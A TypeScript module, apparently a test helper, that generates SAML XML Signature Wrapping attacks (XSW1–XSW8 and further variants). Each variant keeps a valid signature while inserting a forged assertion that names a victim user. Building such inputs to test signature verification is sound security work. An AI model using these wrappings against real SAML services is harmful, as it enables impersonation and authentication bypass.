/** Documents in which a right signature is kept, and another assertion is put where a careless reader looks. */
export type Wrapping = (response: string) => string;

/** Whom the attacker wants to be. */
export const VICTIM = "grace-1906";

const part = (text: string, pattern: RegExp): string => pattern.exec(text)?.[0] ?? "";
const assertionIn = (xml: string) => part(xml, /<saml:Assertion[\s\S]*<\/saml:Assertion>/);
const signatureIn = (xml: string) => part(xml, /<ds:Signature [\s\S]*?<\/ds:Signature>/);
const forged = (assertion: string, id = "_forged") =>
  assertion.replace(/ ID="[^"]*"/, ` ID="${id}"`).replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${VICTIM}`);
const inside = (outer: string, tag: string, inner: string) => outer.replace(`</${tag}>`, `${inner}</${tag}>`);

function partsOf(response: string) {
  const signed = assertionIn(response);
  const signature = signatureIn(signed);
  const bare = signed.replace(signature, "");
  return { signed, signature, bare, evil: forged(bare) };
}

/** Those of "On Breaking SAML: Be Whoever You Want to Be" (2012), and a few more, for a signed assertion. */
export const ASSERTION_WRAPPINGS: Readonly<Record<string, Wrapping>> = {
  "the forged one before the signed one (XSW3)": (response) => {
    const { signed, evil } = partsOf(response);
    return response.replace(signed, evil + signed);
  },
  "the forged one after the signed one": (response) => {
    const { signed, evil } = partsOf(response);
    return response.replace(signed, signed + evil);
  },
  "the signed one in the forged one (XSW4)": (response) => {
    const { signed, evil } = partsOf(response);
    return response.replace(signed, inside(evil, "saml:Assertion", signed));
  },
  "the signature in the forged one, the signed one behind it (XSW5)": (response) => {
    const { signed, signature, bare, evil } = partsOf(response);
    return response.replace(
      signed,
      inside(evil, "saml:Issuer", "").replace("</saml:Issuer>", `</saml:Issuer>${signature}`) + bare,
    );
  },
  "the signed one in the signature of the forged one (XSW6)": (response) => {
    const { signed, signature, bare, evil } = partsOf(response);
    return response.replace(
      signed,
      evil.replace("</saml:Issuer>", `</saml:Issuer>${inside(signature, "ds:Signature", bare)}`),
    );
  },
  "the forged one in the response's extensions (XSW7)": (response) => {
    const { signed, evil } = partsOf(response);
    return response.replace(signed, `<samlp:Extensions>${evil}</samlp:Extensions>${signed}`);
  },
  "the signed one in an object of the forged one's signature (XSW8)": (response) => {
    const { signed, signature, bare, evil } = partsOf(response);
    const wrapped = inside(signature, "ds:Signature", `<ds:Object>${bare}</ds:Object>`);
    return response.replace(signed, evil.replace("</saml:Issuer>", `</saml:Issuer>${wrapped}`));
  },
  "the signed one as advice of the forged one, with the signature of the signed one": (response) => {
    const { signed, signature, bare, evil } = partsOf(response);
    const outer = inside(evil, "saml:Assertion", `<saml:Advice>${bare}</saml:Advice>`);
    return response.replace(signed, outer.replace("</saml:Issuer>", `</saml:Issuer>${signature}`));
  },
  "two with one id": (response) => {
    const { signed, bare } = partsOf(response);
    const id = part(bare, / ID="[^"]*"/).slice(5, -1);
    return response.replace(signed, forged(bare, id) + signed);
  },
  "the id of the forged one by another attribute": (response) => {
    const { signed, signature, bare } = partsOf(response);
    const id = part(bare, / ID="[^"]*"/).slice(5, -1);
    const evil = forged(bare).replace(' ID="_forged"', ` ID="_forged" Id="${id}"`);
    return response.replace(signed, evil.replace("</saml:Issuer>", `</saml:Issuer>${signature}`));
  },
  "the signed one in another namespace's wrapper": (response) => {
    const { signed, evil } = partsOf(response);
    return response.replace(signed, `<x:Wrapper xmlns:x="urn:x">${signed}</x:Wrapper>${evil}`);
  },
  "the forged one alone, with the signature": (response) => {
    const { signed, signature, evil } = partsOf(response);
    return response.replace(signed, evil.replace("</saml:Issuer>", `</saml:Issuer>${signature}`));
  },
  "the signed one changed": (response) => response.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${VICTIM}`),
  "a reference to the whole document": (response) =>
    response.replace(/<ds:Reference URI="[^"]*"/, '<ds:Reference URI=""'),
};

/** For a response that is signed as a whole, with its assertion. */
export const RESPONSE_WRAPPINGS: Readonly<Record<string, Wrapping>> = {
  "the signed response in an object of the forged one's signature (XSW1)": (response) => {
    const signature = signatureIn(response);
    const original = response.replace(signature, "");
    const evil = original
      .replace(/ ID="[^"]*"/, ' ID="_other"')
      .replace(assertionIn(original), (one) => forged(one));
    const wrapped = inside(signature, "ds:Signature", `<ds:Object>${original}</ds:Object>`);
    return evil.replace("</saml:Issuer>", `</saml:Issuer>${wrapped}`);
  },
  "the signed response before the detached signature (XSW2)": (response) => {
    const signature = signatureIn(response);
    const original = response.replace(signature, "");
    const evil = original
      .replace(/ ID="[^"]*"/, ' ID="_other"')
      .replace(assertionIn(original), (one) => forged(one));
    return evil.replace("</saml:Issuer>", `</saml:Issuer>${original}${signature}`);
  },
};
